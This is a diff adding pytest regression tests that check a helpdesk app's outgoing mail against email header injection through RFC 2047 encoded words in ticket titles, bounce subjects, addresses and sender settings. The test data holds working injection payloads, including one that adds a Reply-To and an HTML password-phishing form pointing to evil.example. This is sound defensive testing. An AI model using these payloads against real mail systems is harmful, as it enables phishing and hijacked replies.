@@ -8,7 +8,7 @@ import pytest
 from sqlalchemy import select, update
 
 from pulse_live import db
-from pulse_live.models import MailOutbox, Notification, Ticket
+from pulse_live.models import MailOutbox, Notification, ResolutionCode, Ticket
 from pulse_live.notify import compose, sender
 from pulse_live.services import chatter, tickets, users
 from tests.helpers import drain, make_due, outbox
@@ -141,3 +141,154 @@ def test_no_value_can_add_a_header():
     flat = 'x Bcc: evil@example.org X-Evil: 1'  # the text is kept, on one line
     assert mail['Subject'] == f'[PL-1{flat}] Hello{flat}' and mail['X-Pulse-Ticket'] == f'PL-1{flat}'
     assert str(mail['To']).startswith('carl@acme.demox') and str(mail['Message-ID']).startswith('<m1@pulse-live>')
+
+
+# --- encoded words: a title is written as its text, never decoded on the way out ----------------------------------
+# policy.default decodes RFC 2047 encoded words in any value set on a header, and the generator wrote the decoded
+# CR LF raw: the auditor's title gave every mail about the ticket the sender's Reply-To and an HTML body of theirs.
+
+AUDITOR_TITLE = ('VPN =?utf-8?q?=0D=0AReply-To:_x@evil.example=0D=0AContent-Type:_text/html=0D=0A=0D=0A'
+                 '<b>Session_expired</b><form_action=3D//evil.example><input_name=3Dpw_type=3Dpassword>'
+                 '<button>Sign_in</button></form><img_src=3D//evil.example/t>?=')
+
+
+def _q(text: str) -> str:
+    """``text`` as one more layer of Q encoding (what a stranger sends so that the intake's decoding leaves the
+    encoded word in the subject)."""
+    return ''.join({'=': '=3D', '?': '=3F', '_': '=5F', ' ': '_'}.get(c, c) for c in text)
+
+
+def _b64(text: str) -> str:
+    import base64
+    return base64.b64encode(text.encode()).decode()
+
+
+HOSTILE_TITLES = {
+    'auditor': AUDITOR_TITLE,
+    'b-encoding': 'Printer =?UTF-8?B?' + _b64('\r\nBcc: x@evil.example\r\nX-Evil: 1\r\n\r\n<form>pw</form>') + '?=',
+    'lowercase': 'Mail =?utf-8?b?' + _b64('\nreply-to: x@evil.example\n') + '?= down',
+    'q-uppercase-latin1': '=?ISO-8859-1?Q?=0D=0AReply-To:_x@evil.example?= caf\u00e9',
+    'inside a word': 'VPN=?utf-8?q?=0A=0DX-Evil:_1?=down',
+    'nested': '=?utf-8?q?' + _q('=?utf-8?q?=0D=0AReply-To:_x@evil.example?=') + '?=',
+    'several': '=?utf-8?q?a=0D=0AX-Evil:_1?= =?utf-8?q?=0D=0ABcc:_x@evil.example?=',
+}
+TICKET_HEADERS = {'From', 'To', 'Subject', 'Message-ID', 'Date', 'Reply-To', 'In-Reply-To', 'References',
+                  'X-Pulse-Ticket', 'Auto-Submitted', 'X-Auto-Response-Suppress', 'MIME-Version', 'Content-Type'}
+ACCOUNT_HEADERS = TICKET_HEADERS - {'Reply-To', 'In-Reply-To', 'References', 'X-Pulse-Ticket'}
+
+
+def _sent(mail: EmailMessage) -> tuple[EmailMessage, list[bytes]]:
+    """The mail as the server receives it (parsed back from its bytes) and its raw header lines."""
+    import email
+    from email import policy
+    raw = mail.as_bytes(policy=policy.SMTP)
+    head = raw.split(b'\r\n\r\n', 1)[0]
+    return email.message_from_bytes(raw, policy=policy.default), head.split(b'\r\n')
+
+
+def _assert_only_our_headers(mail: EmailMessage, expected: set[str], subject: str) -> None:
+    received, lines = _sent(mail)
+    assert set(received.keys()) == expected and len(received.keys()) == len(expected), received.keys()
+    for line in lines:  # no CR or LF inside a line: each is a header of ours or the continuation of one
+        assert b'\r' not in line and b'\n' not in line
+        assert line[:1] in (b' ', b'\t') or line.split(b':', 1)[0].decode() in expected, line
+    assert received['Subject'] == subject
+    assert '\r' not in received['Subject'] and '\n' not in received['Subject']
+    assert received['Reply-To'] in (None, received['From'])
+    assert received.get_content_type() == 'multipart/alternative'
+    assert [p.get_content_type() for p in received.iter_parts()] == ['text/plain', 'text/html']
+    assert 'evil.example' not in received.get_body(('html',)).get_content()
+
+
+@pytest.mark.parametrize('variant', sorted(HOSTILE_TITLES))
+@pytest.mark.parametrize('kind', ['update', 'missed', 'mention', 'resolved', 'closed'])
+def test_an_encoded_word_in_a_title_is_written_as_text_in_every_ticket_mail(variant, kind):
+    title = HOSTILE_TITLES[variant]
+    values: dict = {'title': title, 'kind': kind}
+    if kind == 'mention':
+        values.update(kind='update', items=[{'text': 'Anna mentioned you', 'lead': 'Anna Keller', 'body': '@carl',
+                                             'why': ['mention'], 'by': 'Anna Keller'}])
+        subject = f'[PL-2026-000042] Anna Keller mentioned you: {title}'
+    elif kind in ('resolved', 'closed'):
+        values['resolution'] = 'Toner replaced.'
+        subject = f'[PL-2026-000042] {compose.INTROS[kind].rstrip(".")}: {title}'
+    else:
+        subject = f'[PL-2026-000042] {title}'
+    subject = subject[:250]  # subjects are cut at 250 characters (an encoded word cut short is plain text)
+    mail = _build(**values)
+    assert mail['Subject'] == subject
+    _assert_only_our_headers(mail, TICKET_HEADERS, subject)
+
+
+@pytest.mark.parametrize('variant', sorted(HOSTILE_TITLES))
+def test_an_encoded_word_in_a_bounce_subject_is_written_as_text(variant):
+    """A stranger's mail the intake refuses is answered "Not delivered: <their subject>" (an account mail)."""
+    subject = f'Not delivered: {HOSTILE_TITLES[variant]}'[:250]
+    mail = compose.build(to_addr='stranger@outside.example', reference='', title='', ticket_id=None, kind='account',
+                         items=[], message_id='<b1@pulse-live>', subject=subject, text='We could not accept it.')
+    _assert_only_our_headers(mail, ACCOUNT_HEADERS, subject)
+
+
+def test_a_double_encoded_subject_read_by_the_intake_goes_out_as_the_text_it_became():
+    from pulse_live.services.mail_intake import parse_mail
+    raw = (f'From: Stranger <s@outside.example>\r\nTo: support@pulse.local\r\nSubject: =?utf-8?q?{_q(AUDITOR_TITLE)}'
+           '?=\r\nMessage-ID: <x1@outside.example>\r\nDate: Sun, 06 Dec 2026 12:00:00 +0000\r\n\r\nhello\r\n')
+    parsed = parse_mail(raw.encode())
+    assert parsed.subject == AUDITOR_TITLE  # one layer decoded: the title holds the encoded word as text
+    mail = _build(title=parsed.subject)
+    _assert_only_our_headers(mail, TICKET_HEADERS, f'[PL-2026-000042] {AUDITOR_TITLE}')
+    bounce = compose.build(to_addr=parsed.sender, reference='', title='', ticket_id=None, kind='account', items=[],
+                           message_id='<b2@pulse-live>', subject=f'Not delivered: {parsed.subject}', text='x')
+    _assert_only_our_headers(bounce, ACCOUNT_HEADERS, f'Not delivered: {AUDITOR_TITLE}')
+
+
+def test_addresses_and_identifiers_holding_an_encoded_word_are_refused_or_written_as_text(monkeypatch):
+    from pulse_live.config import reset_settings
+    for to_addr in ('=?utf-8?q?=0D=0ABcc:_x@evil.example?=@evil.example',
+                    'Carl =?utf-8?q?=0D=0ABcc:_x@evil.example?= <carl@acme.demo>'):
+        try:
+            mail = _build(to_addr=to_addr)
+        except ValueError:
+            continue  # no mail at all is as good: the row fails with that message
+        _assert_only_our_headers(mail, TICKET_HEADERS, '[PL-2026-000042] Printer on floor 3 is down')
+    with pytest.raises(ValueError):
+        _build(message_id='<=?utf-8?q?=0D=0AX-Evil:_1?=@pulse-live>')
+    monkeypatch.setenv('PULSE_MAIL_FROM', 'Help =?utf-8?q?=0D=0AX-Evil=3A_1?= desk <helpdesk@pulse.local>')
+    reset_settings()
+    try:
+        mail = _build()
+        _assert_only_our_headers(mail, TICKET_HEADERS, '[PL-2026-000042] Printer on floor 3 is down')
+        received, _ = _sent(mail)
+        assert received['From'].addresses[0].display_name == 'Help =?utf-8?q?=0D=0AX-Evil=3A_1?= desk'
+        assert received['From'].addresses[0].addr_spec == 'helpdesk@pulse.local'
+    finally:
+        monkeypatch.undo()
+        reset_settings()
+
+
+async def test_a_customer_s_hostile_title_reaches_no_mailbox_as_headers(people, smtp):
+    """End to end: the customer opens the ticket (the new-ticket mail to staff), staff answer (the update to the
+    customer), resolve and close it (the mails to the customer): each arrives with our headers only."""
+    anna, carl = people.users['anna@pulse.demo'], people.users['carl@acme.demo']
+    ticket = await tickets.create_ticket(actor=carl, title=AUDITOR_TITLE, description='see title')
+    assert ticket.title == AUDITOR_TITLE
+    await chatter.post_message(actor=anna, ticket_id=ticket.id, body='We are on it')
+    async with db.session() as s:
+        fixed = (await s.execute(select(ResolutionCode.id).where(ResolutionCode.name == 'Fixed'))).scalar_one()
+        version = (await s.execute(select(Ticket.version).where(Ticket.id == ticket.id))).scalar_one()
+    t = await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=version, status='resolved',
+                                    resolution_code_id=fixed, resolution_text='Rebooted the VPN gateway')
+    await tickets.change_status(actor=anna, ticket_id=ticket.id, expected_version=t.version, status='closed')
+    await drain()
+    to_customer = smtp.to('carl@acme.demo')
+    to_staff = [m for m in smtp.messages if m['To'] != 'carl@acme.demo']
+    assert to_staff and len(to_customer) >= 3
+    subjects = {m['Subject'] for m in to_customer}
+    assert {f'[{ticket.reference}] Your request has been resolved: {AUDITOR_TITLE}'[:250],
+            f'[{ticket.reference}] Your request has been closed: {AUDITOR_TITLE}'[:250],
+            f'[{ticket.reference}] {AUDITOR_TITLE}'} <= subjects
+    for m in smtp.messages:
+        assert set(m.keys()) == TICKET_HEADERS and len(m.keys()) == len(TICKET_HEADERS), m.keys()
+        assert m['Reply-To'] == m['From'] and m['Subject'].startswith(f'[{ticket.reference}] ')
+        assert AUDITOR_TITLE[:100] in m['Subject'] and '\n' not in m['Subject']
+        assert 'evil.example' not in m.get_body(('html',)).get_content()
